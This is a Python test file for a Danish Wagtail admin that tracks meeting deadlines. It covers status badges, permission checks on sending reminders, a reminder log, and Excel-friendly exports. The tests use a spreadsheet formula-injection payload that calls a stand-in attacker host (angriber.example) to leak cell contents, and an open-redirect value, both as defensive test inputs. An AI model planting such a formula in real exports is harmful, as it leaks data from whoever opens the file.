"""The secretariat's desk in the admin: one vocabulary of status badges on
the dashboard and the report, "Send påmindelse" and the reminder log tried
as every role, and exports that Danish Excel opens, safely."""

import csv
import io
import re
from datetime import UTC, date, datetime, timedelta

import openpyxl
import pytest
from django.contrib.auth.models import Group, Permission
from django.core.management import call_command
from django.test import Client
from django.urls import reverse
from django.utils import timezone
from wagtail.models import PageLogEntry

from klynge_editorial.deadlines import Status
from klynge_editorial.models import DeadlineReminder
from klynge_editorial.reminders import REMINDER_LOG_ACTION
from klynge_editorial.spreadsheets import escape_cell, formula_escaping_installed
from klynge_pages.dates import danish_date
from klynge_pages.models import MinutesPage

from .factories import local, make_meeting, make_minutes
from .test_deadlines import cluster, make_user, set_published

pytestmark = pytest.mark.django_db

REPORT = "klynge_editorial_deadlines"
RESULTS = "klynge_editorial_deadlines_results"
LOG = "klynge_editorial_reminders"
FORMULA = '=HYPERLINK("http://angriber.example/?d="&A1,"Klik her")'


def today():
    return timezone.localdate()


def at(day, hour=10):
    return local(day.year, day.month, day.day, hour, 0)


def badges(html):
    """The words of the status badges on a page, in order."""
    return re.findall(
        r'<span class="klynge-badge klynge-badge--\w+"[^>]*>([^<]*)<', html
    )


def html_of(response):
    assert response.status_code == 200, response.status_code
    return response.content.decode()


# --- one vocabulary ------------------------------------------------------------


@pytest.fixture
def states():
    """A cluster in each of the desk's states (and only that one), each with
    an editor to remind unless it is the one without."""
    day = today()
    clusters = {}

    def with_editor(title, **fields):
        fields.setdefault("min_meetings_per_year", 0)
        page = cluster(title, **fields)
        make_user(f"redaktoer-{page.pk}", page.editors_group)
        return page

    page = with_editor("Klynge Overskredet")
    make_meeting(page, start=at(day + timedelta(days=3)), live=False)
    clusters[Status.OVERDUE] = page

    page = with_editor("Klynge Kommende")
    make_meeting(page, start=at(day + timedelta(days=20)), live=False)
    clusters[Status.PENDING] = page

    page = with_editor("Klynge For sent")
    meeting = make_meeting(page, start=at(day - timedelta(days=30)))
    minutes = make_minutes(meeting)
    set_published(minutes, at(day - timedelta(days=20)))  # due 23 days ago
    clusters[Status.LATE] = page

    page = with_editor("Klynge Overholdt")
    meeting = make_meeting(page, start=at(day - timedelta(days=30)))
    minutes = make_minutes(meeting)
    set_published(minutes, at(day - timedelta(days=25)))
    clusters[Status.MET] = page

    # Minutes in sign-off are not out yet: their deadline is still coming.
    page = with_editor("Klynge Godkendelse")
    meeting = make_meeting(page, start=at(day - timedelta(days=2)))
    minutes = MinutesPage.objects.get(pk=make_minutes(meeting, live=False).pk)
    editor = page.editors_group.user_set.get()
    minutes.save_revision(user=editor)
    minutes.get_workflow().start(minutes, editor)
    clusters[Status.SIGNOFF] = page

    page = with_editor("Klynge Faa Moeder", min_meetings_per_year=5)
    clusters[Status.BELOW_MINIMUM] = page

    page = cluster("Klynge Uden E-mail", min_meetings_per_year=0)
    make_user("uden-mail", page.editors_group, email="")
    clusters[Status.NO_EDITOR_EMAIL] = page

    secretary = make_user("sekretaer", Group.objects.get(name="Sekretariat"))
    # Which clusters each filter must find: its own, and the sign-off
    # cluster shows "Kommende" for those minutes as well.
    expected = {state: {page.title} for state, page in clusters.items()}
    expected[Status.PENDING].add(clusters[Status.SIGNOFF].title)
    return clusters, secretary, expected


def test_the_filter_offers_exactly_the_words_of_the_badges(client, states):
    clusters, secretary, expected = states
    client.force_login(secretary)
    html = html_of(client.get(reverse(REPORT)))
    offered = re.findall(
        r'<input type="radio" name="state" value="(\w*)"[^>]*>\s*([^<]+?)\s*</label>',
        html,
    )
    assert offered[1:] == [(key, str(Status.LABELS[key])) for key in Status.ORDER]


@pytest.mark.parametrize("state", Status.ORDER)
def test_each_filter_finds_exactly_the_rows_that_show_its_word(client, states, state):
    clusters, secretary, expected = states
    client.force_login(secretary)
    label = str(Status.LABELS[state])

    html = html_of(client.get(reverse(RESULTS), {"state": state}))

    shown = {title for title in (c.title for c in clusters.values()) if title in html}
    assert shown == expected[state]
    for title in shown:
        row = html[html.index(title) :].split("</tr>")[0]
        assert label in badges(row), title


def test_a_late_minutes_row_says_so_and_the_overdue_filter_leaves_it_out(
    client, states
):
    """The reported case: "For sent" in the table, and a filter whose word
    differed, so it found nothing."""
    clusters, secretary, expected = states
    late = clusters[Status.LATE]
    client.force_login(secretary)

    html = html_of(client.get(reverse(RESULTS)))
    row = html[html.index(late.title) :].split("</tr>")[0]
    assert "Udsendt for sent" in badges(row)
    assert late.title in html_of(client.get(reverse(RESULTS), {"state": "late"}))
    assert late.title not in html_of(client.get(reverse(RESULTS), {"state": "overdue"}))


def test_every_badge_has_its_word_and_a_tone(client, states):
    clusters, secretary, expected = states
    client.force_login(secretary)
    for url in (reverse(REPORT), reverse("wagtailadmin_home")):
        html = html_of(client.get(url))
        spans = re.findall(
            r'<span class="klynge-badge klynge-badge--(\w+)"[^>]*>([^<]*)<', html
        )
        assert spans, url
        for tone, word in spans:
            assert word.strip() in {str(label) for label in Status.LABELS.values()}
            assert tone in {"critical", "warning", "positive", "info"}


def test_the_dashboard_shows_badges_and_flags_a_cluster_without_an_editor_email(
    client, states
):
    clusters, secretary, expected = states
    client.force_login(secretary)
    html = html_of(client.get(reverse("wagtailadmin_home")))
    panel = html[html.index("Frister i dine klynger") :]
    words = badges(panel)
    assert "Overskredet" in words
    assert "Ingen redaktør med e-mail" in words
    assert clusters[Status.NO_EDITOR_EMAIL].title in panel


def test_a_cluster_without_a_minimum_shows_no_minimum(client, states):
    clusters, secretary, expected = states
    client.force_login(secretary)
    html = html_of(client.get(reverse(REPORT)))
    assert "af mindst 0" not in html
    assert "0 af mindst 5" in " ".join(html.split())


def test_the_report_tables_do_not_use_wagtails_word_breaking_title_cells(
    client, states
):
    """Wagtail's `.listing .title` breaks inside words ("Klyngestyr/egruppe");
    the browser test measures the result."""
    clusters, secretary, expected = states
    client.force_login(secretary)
    for url in (reverse(REPORT), reverse("wagtailadmin_home")):
        html = html_of(client.get(url))
        tables = re.findall(
            r'<table class="[^"]*klynge-desk__table.*?</table>', html, re.S
        )
        assert tables
        for table in tables:
            assert 'class="title"' not in table
    assert "klynge_editorial/css/desk.css" in html


# --- "Send påmindelse" ---------------------------------------------------------


@pytest.fixture
def desk():
    """Midt has a meeting in three days without its agenda (overdue); Nord
    has its own people. Everybody who might try."""
    midt = cluster("Klyngestyregruppe Midt")
    nord = cluster("Politisk klynge Nord")
    meeting = make_meeting(
        midt, start=at(today() + timedelta(days=3)), live=False, title="Midtmødet"
    )
    admin_access = Permission.objects.get(codename="access_admin")
    outsider = make_user("udenfor")
    outsider.user_permissions.add(admin_access)
    users = {
        "secretary": make_user("sekretaer", Group.objects.get(name="Sekretariat")),
        "superuser": make_user("admin", is_superuser=True),
        "midt_editor": make_user("midtredaktoer", midt.editors_group),
        "midt_editor_2": make_user("midtkollega", midt.editors_group),
        "midt_approver": make_user("midtgodkender", midt.approvers_group),
        "nord_editor": make_user("nordredaktoer", nord.editors_group),
        "nord_approver": make_user("nordgodkender", nord.approvers_group),
        "outsider": outsider,
    }
    return midt, nord, meeting, users


def send_url(meeting, kind="dagsorden", next_url=None):
    url = reverse("klynge_editorial_send_reminder", args=(meeting.pk, kind))
    return url + (f"?next={next_url}" if next_url else "")


def nothing_sent(meeting, mailoutbox):
    assert mailoutbox == []
    assert not DeadlineReminder.objects.exists()
    assert not PageLogEntry.objects.filter(
        page=meeting, action=REMINDER_LOG_ACTION
    ).exists()
    return True


def refused(response):
    """Wagtail answers a PermissionDenied in its admin with a redirect to the
    dashboard (or to the login for the anonymous)."""
    assert response.status_code == 302, response.status_code
    location = response["Location"]
    assert location == reverse("wagtailadmin_home") or location.startswith(
        reverse("wagtailadmin_login")
    ), location
    return True


@pytest.mark.parametrize(
    "who", ["secretary", "superuser", "midt_editor", "midt_approver"]
)
def test_the_secretariat_and_the_clusters_own_people_send_a_reminder(
    client, desk, mailoutbox, who
):
    midt, nord, meeting, users = desk
    sender = users[who]
    client.force_login(sender)

    report = html_of(client.get(reverse(REPORT)))
    assert send_url(meeting) in report

    page = html_of(client.get(send_url(meeting)))
    assert "midtredaktoer@example.dk" in page
    assert "midtkollega@example.dk" in page
    assert mailoutbox == []  # the confirmation sends nothing
    assert not DeadlineReminder.objects.exists()

    response = client.post(send_url(meeting), {"next": reverse(REPORT)})

    assert response.status_code == 302
    assert response["Location"] == reverse(REPORT)
    assert sorted(m.to[0] for m in mailoutbox) == [
        "midtkollega@example.dk",
        "midtredaktoer@example.dk",
    ]
    assert mailoutbox[0].subject == (
        "Fristen er overskredet: dagsorden til Midtmødet (Klyngestyregruppe Midt)"
    )
    assert f"Påmindelsen er sendt af {sender.get_full_name()}" in mailoutbox[0].body
    record = DeadlineReminder.objects.get()
    assert record.stage == DeadlineReminder.Stage.MANUAL
    assert record.sent_by == sender
    assert record.meeting_id == meeting.pk
    assert record.cluster_id == midt.pk
    assert record.kind == "dagsorden"
    assert record.deadline == meeting.start.date() - timedelta(days=7)
    entry = PageLogEntry.objects.get(page=meeting, action=REMINDER_LOG_ACTION)
    assert entry.user == sender
    messages = [str(m) for m in response.wsgi_request._messages]
    assert messages == [
        "Påmindelse sendt til midtkollega@example.dk, midtredaktoer@example.dk."
    ]


@pytest.mark.parametrize("who", ["nord_editor", "nord_approver", "outsider"])
def test_nobody_else_sends_a_reminder_or_learns_about_the_meeting(
    client, desk, mailoutbox, who
):
    midt, nord, meeting, users = desk
    client.force_login(users[who])

    assert refused(client.get(send_url(meeting)))
    assert refused(client.post(send_url(meeting), {"next": reverse(REPORT)}))
    assert refused(client.post(send_url(meeting, kind="referat")))

    assert nothing_sent(meeting, mailoutbox)
    # Nor does the report show them the meeting or its button.
    response = client.get(reverse(REPORT))
    if response.status_code == 200:
        assert "Midtmødet" not in response.content.decode()
        assert send_url(meeting) not in response.content.decode()
    else:
        assert refused(response)


def test_the_anonymous_are_sent_to_the_login(desk, mailoutbox):
    midt, nord, meeting, users = desk
    anonymous = Client()
    assert refused(anonymous.get(send_url(meeting)))
    assert refused(anonymous.post(send_url(meeting)))
    assert nothing_sent(meeting, mailoutbox)


def test_an_unknown_meeting_or_kind_gets_the_same_refusal(client, desk, mailoutbox):
    midt, nord, meeting, users = desk
    client.force_login(users["nord_editor"])
    other_cluster = client.post(send_url(meeting))
    missing = client.post(
        reverse("klynge_editorial_send_reminder", args=(meeting.pk + 999, "dagsorden"))
    )
    assert other_cluster["Location"] == missing["Location"]
    client.force_login(users["secretary"])
    assert refused(client.post(send_url(meeting, kind="noget-andet")))
    assert refused(client.post(send_url(midt, kind="dagsorden")))  # not a meeting
    assert nothing_sent(meeting, mailoutbox)


def test_a_reminder_needs_the_csrf_token(desk, mailoutbox):
    midt, nord, meeting, users = desk
    client = Client(enforce_csrf_checks=True)
    client.force_login(users["secretary"])
    assert client.post(send_url(meeting)).status_code == 403
    assert nothing_sent(meeting, mailoutbox)


def test_no_reminder_once_the_agenda_is_out(client, desk, mailoutbox):
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    meeting.save_revision().publish()

    page = html_of(client.get(send_url(meeting)))
    assert "Fristen er ikke åben længere" in page
    assert 'type="submit"' not in page.split("Tidligere påmindelser")[0]
    response = client.post(send_url(meeting), follow=True)

    assert "Fristen er ikke åben længere" in response.content.decode()
    assert nothing_sent(meeting, mailoutbox)


def test_no_reminder_to_a_cluster_without_an_editor_email(client, desk, mailoutbox):
    midt, nord, meeting, users = desk
    for key in ("midt_editor", "midt_editor_2"):
        users[key].email = ""
        users[key].save()
    client.force_login(users["secretary"])

    page = html_of(client.get(send_url(meeting)))
    assert "Ingen redaktør med e-mail" in badges(page)
    response = client.post(send_url(meeting), follow=True)

    assert "har ingen aktiv redaktør med en e-mailadresse" in response.content.decode()
    assert nothing_sent(meeting, mailoutbox)


def test_a_failed_send_is_reported_and_nothing_is_recorded(
    client, desk, mailoutbox, settings
):
    midt, nord, meeting, users = desk
    settings.EMAIL_BACKEND = "tests.test_deadlines.FailingBackend"
    client.force_login(users["secretary"])
    response = client.post(send_url(meeting), follow=True)
    assert "Påmindelsen kunne ikke sendes" in response.content.decode()
    assert nothing_sent(meeting, mailoutbox)


def test_reminders_from_the_admin_may_repeat_and_leave_the_automatic_ones_be(
    client, desk, mailoutbox
):
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    client.post(send_url(meeting))
    client.post(send_url(meeting))
    assert DeadlineReminder.objects.filter(stage="manuel").count() == 2

    call_command("send_reminders", stdout=io.StringIO())

    assert DeadlineReminder.objects.filter(stage="overskredet").count() == 1
    assert len(mailoutbox) == 6  # three rounds to both editors


def test_the_return_address_stays_on_the_site(client, desk, mailoutbox):
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    response = client.post(send_url(meeting), {"next": "https://angriber.example/"})
    assert response["Location"] == reverse(REPORT)


# --- the reminder log ------------------------------------------------------------


@pytest.fixture
def logged(desk, client, mailoutbox):
    """One reminder sent by the secretariat for Midt, one automatic for Nord."""
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    client.post(send_url(meeting))
    make_user("nordmail", nord.editors_group)
    make_meeting(
        nord, start=at(today() + timedelta(days=9)), live=False, title="Nordmødet"
    )
    call_command("send_reminders", stdout=io.StringIO())
    client.logout()
    return desk


def test_the_log_says_who_sent_which_reminder_when(client, logged):
    midt, nord, meeting, users = logged
    client.force_login(users["secretary"])
    html = html_of(client.get(reverse(LOG)))
    text = " ".join(re.sub(r"<[^>]+>", " ", html).split())
    assert "Sekretaer" in text  # the sender
    assert "Automatisk" in text  # send_reminders
    assert "Midtmødet" in text
    assert "Nordmødet" in text
    assert "Sendt fra administrationen" in text
    assert "Dagsorden:" in text
    assert "midtredaktoer@example.dk" in text


@pytest.mark.parametrize(
    ("who", "sees"),
    [
        ("midt_editor", {"Midtmødet"}),
        ("midt_approver", {"Midtmødet"}),
        ("nord_editor", {"Nordmødet"}),
        ("superuser", {"Midtmødet", "Nordmødet"}),
    ],
)
def test_the_log_shows_the_reminders_of_ones_own_clusters(client, logged, who, sees):
    midt, nord, meeting, users = logged
    client.force_login(users[who])
    html = html_of(client.get(reverse(LOG)))
    assert {title for title in ("Midtmødet", "Nordmødet") if title in html} == sees
    export = b"".join(client.get(reverse(LOG), {"export": "csv"}).streaming_content)
    exported = {t for t in ("Midtmødet", "Nordmødet") if t.encode() in export}
    assert exported == sees
    # Asking for another cluster's reminders by filter finds nothing.
    other = nord if sees == {"Midtmødet"} else midt
    if len(sees) == 1:
        assert other.title not in html  # not even as a filter choice
        # Not a choice of theirs: the filter is ignored, their own remain.
        html = html_of(client.get(reverse(LOG), {"cluster": other.pk}))
        assert {t for t in ("Midtmødet", "Nordmødet") if t in html} == sees


def test_the_meetings_history_names_the_reminder(client, logged):
    midt, nord, meeting, users = logged
    client.force_login(users["midt_editor"])
    html = html_of(client.get(reverse("wagtailadmin_pages:history", args=[meeting.pk])))
    assert "Påmindelse om frist sendt" in html
    assert "Påmindelse om dagsorden sendt til midtkollega@example.dk" in html


def test_the_log_costs_the_same_few_queries_for_many_reminders(
    client, desk, django_assert_max_num_queries
):
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    client.get(reverse(LOG))  # warm up caches (content types, site)
    DeadlineReminder.objects.bulk_create(
        DeadlineReminder(
            cluster=midt,
            meeting=meeting,
            kind="dagsorden",
            stage="manuel",
            deadline=today(),
            recipients="midtredaktoer@example.dk",
            sent_by=users["midt_editor"],
        )
        for _ in range(120)
    )
    with django_assert_max_num_queries(16):
        assert client.get(reverse(LOG)).status_code == 200
    with django_assert_max_num_queries(16):
        response = client.get(reverse(LOG), {"export": "csv"})
        assert len(read_csv(response)[1]) == 121


def test_the_log_is_refused_to_users_without_clusters(client, logged):
    midt, nord, meeting, users = logged
    client.force_login(users["outsider"])
    assert refused(client.get(reverse(LOG)))
    assert refused(client.get(reverse(LOG), {"export": "csv"}))
    assert refused(client.get(reverse("klynge_editorial_reminders_results")))


# --- exports: Danish Excel, and no formulas ------------------------------------


def read_csv(response):
    data = b"".join(response.streaming_content)
    return data, list(csv.reader(io.StringIO(data.decode("utf-8-sig")), delimiter=";"))


@pytest.fixture
def formula_meeting(desk):
    midt, nord, meeting, users = desk
    MeetingPage = type(meeting)
    MeetingPage.objects.filter(pk=meeting.pk).update(title=FORMULA)
    return desk


def test_the_deadline_csv_is_for_danish_excel(client, desk):
    midt, nord, meeting, users = desk
    client.force_login(users["secretary"])
    response = client.get(reverse(REPORT), {"export": "csv"})
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data, rows = read_csv(response)
    assert data.startswith("\ufeff".encode())
    assert b";" in data.splitlines()[0]
    heading, *body = rows
    row = next(r for r in body if r[0] == "Klyngestyregruppe Midt")
    start = timezone.localtime(meeting.start)
    assert row[heading.index("Mødet starter")] == start.strftime("%d-%m-%Y %H:%M")
    due = start.date() - timedelta(days=7)
    assert row[heading.index("Frist for dagsorden")] == due.strftime("%d-%m-%Y")
    assert row[heading.index("Status")] == "Overskredet"
    assert row[heading.index("Dagsorden")] == "Overskredet"
    nord_row = next(r for r in body if r[0] == "Politisk klynge Nord")
    assert "Ingen redaktør med e-mail" not in nord_row[heading.index("Status")]


def test_a_formula_title_reaches_the_csv_as_text(client, formula_meeting):
    """Issue: a meeting titled =HYPERLINK(…) reached the secretariat's CSV
    unescaped."""
    midt, nord, meeting, users = formula_meeting
    client.force_login(users["secretary"])
    _, rows = read_csv(client.get(reverse(REPORT), {"export": "csv"}))
    heading, *body = rows
    cell = next(r for r in body if r[0] == "Klyngestyregruppe Midt")[
        heading.index("Næste møde")
    ]
    assert cell.startswith("'")
    assert cell == "'" + FORMULA


def test_a_formula_title_reaches_the_xlsx_as_text(client, formula_meeting):
    midt, nord, meeting, users = formula_meeting
    client.force_login(users["secretary"])
    response = client.get(reverse(REPORT), {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    rows = list(sheet.active.iter_rows())
    heading = [cell.value for cell in rows[0]]
    row = next(r for r in rows[1:] if r[0].value == "Klyngestyregruppe Midt")
    title = row[heading.index("Næste møde")]
    assert title.value == FORMULA
    assert title.data_type == "s"
    due = row[heading.index("Frist for dagsorden")]
    assert due.number_format == "dd-mm-yyyy"
    start = row[heading.index("Mødet starter")]
    assert start.number_format == "dd-mm-yyyy hh:mm"
    assert start.value == timezone.localtime(meeting.start).replace(tzinfo=None)


def test_the_reminder_log_csv_escapes_formulas_too(client, formula_meeting, mailoutbox):
    midt, nord, meeting, users = formula_meeting
    client.force_login(users["secretary"])
    client.post(send_url(meeting))
    data, rows = read_csv(client.get(reverse(LOG), {"export": "csv"}))
    heading, row = rows
    assert data.startswith("\ufeff".encode())
    assert row[heading.index("Møde")] == "'" + FORMULA
    assert row[heading.index("Sendt af")] == "Sekretaer"
    assert re.fullmatch(r"\d\d-\d\d-\d{4} \d\d:\d\d", row[heading.index("Sendt")])


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "＝1",
        "＋1",
        "－1",
        "＠x",
    ],
)
def test_every_formula_trigger_is_escaped(value):
    assert escape_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Møde i Midt", "", " =1", "'=1", 5, None])
def test_other_cells_are_left_as_they_are(value):
    assert escape_cell(value) == value


def test_wagtails_own_csv_exports_escape_formulas(client, formula_meeting):
    """Every CSV export of the admin, not just the desk's: Wagtail's reports
    stream through the same writer."""
    midt, nord, meeting, users = formula_meeting
    assert formula_escaping_installed()
    meeting.refresh_from_db()
    revision = meeting.save_revision(user=users["superuser"], log_action=True)
    revision.publish(user=users["superuser"])
    client.force_login(users["superuser"])
    for name in (
        "wagtailadmin_reports:site_history",
        "wagtailadmin_reports:aging_pages",
    ):
        response = client.get(reverse(name), {"export": "csv"})
        data = b"".join(response.streaming_content).decode("utf-8")
        cells = [cell for row in csv.reader(io.StringIO(data)) for cell in row]
        assert any(FORMULA in cell for cell in cells), name
        for cell in cells:
            if FORMULA in cell:
                assert cell.startswith("'"), (name, cell)


# --- send_reminders speaks Danish -----------------------------------------------------


ENGLISH = re.compile(
    r"\b(?:would|sent to|send to|reminders?|due|no editor|failed|dry run|nothing|"
    r"recorded|without recipients|must be)\b",
    re.IGNORECASE,
)


def test_send_reminders_speaks_danish(desk, mailoutbox):
    midt, nord, meeting, users = desk
    users["nord_editor"].email = ""
    users["nord_editor"].save()
    nord_meeting = make_meeting(
        nord, start=at(today() + timedelta(days=9)), live=False, title="Nordmødet"
    )
    out, err = io.StringIO(), io.StringIO()
    call_command("send_reminders", "--dry-run", stdout=out, stderr=err)
    call_command("send_reminders", stdout=out, stderr=err)
    text = out.getvalue() + err.getvalue()

    assert "Ville sende til midtkollega@example.dk, midtredaktoer@example.dk" in text
    assert "Prøvekørsel: 1 påmindelse ville blive sendt, 1 uden modtagere" in text
    assert "Ingen redaktør med e-mailadresse, ikke sendt: Politisk klynge Nord" in text
    assert "1 påmindelse sendt, 1 uden modtagere, 0 fejlede." in text
    assert nord_meeting.title in text
    due = meeting.start.date() - timedelta(days=7)
    assert f"Midtmødet: dagsorden, frist {danish_date(due)} (fristen er" in text
    assert not ENGLISH.search(text), text


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--days", "-1"], "--days skal være et helt tal, 0 eller mere"),
        (["--days", "tre"], "--days skal være et helt tal, 0 eller mere"),
        (["--overdue-within", "-5"], "--overdue-within skal være et helt tal"),
        (["--today", "2026-13-01"], "--today skal være en dato som ÅÅÅÅ-MM-DD"),
    ],
)
def test_send_reminders_explains_bad_arguments_in_danish(db, args, message, mailoutbox):
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match=re.escape(message)):
        call_command("send_reminders", *args, stdout=io.StringIO())
    assert mailoutbox == []


def test_reminder_mails_are_plain_text_not_html_escaped(desk, mailoutbox):
    midt, nord, meeting, users = desk
    type(meeting).objects.filter(pk=meeting.pk).update(
        title='Møde om "kvalitet" & <data>'
    )
    call_command("send_reminders", stdout=io.StringIO())
    message = mailoutbox[0]
    assert 'Møde om "kvalitet" & <data>' in message.subject
    assert 'Møde om "kvalitet" & <data>' in message.body
    assert "&quot;" not in message.body + message.subject
    assert "&lt;data&gt;" in message.alternatives[0][0]  # the HTML part escapes


def test_dates_in_the_deadline_csv_use_the_danish_calendar_day(client, desk):
    """A deadline is a date; a meeting's start is shown in Danish time even
    just after midnight UTC."""
    midt, nord, meeting, users = desk
    late = make_meeting(
        nord,
        start=datetime(2030, 6, 1, 22, 30, tzinfo=UTC),
        live=False,
        title="Sent møde",
    )
    client.force_login(users["secretary"])
    _, rows = read_csv(client.get(reverse(REPORT), {"export": "csv"}))
    heading, *body = rows
    row = next(r for r in body if r[0] == "Politisk klynge Nord")
    assert row[heading.index("Næste møde")] == late.title
    assert row[heading.index("Mødet starter")] == "02-06-2030 00:30"
    assert row[heading.index("Frist for dagsorden")] == date(2030, 5, 26).strftime(
        "%d-%m-%Y"
    )
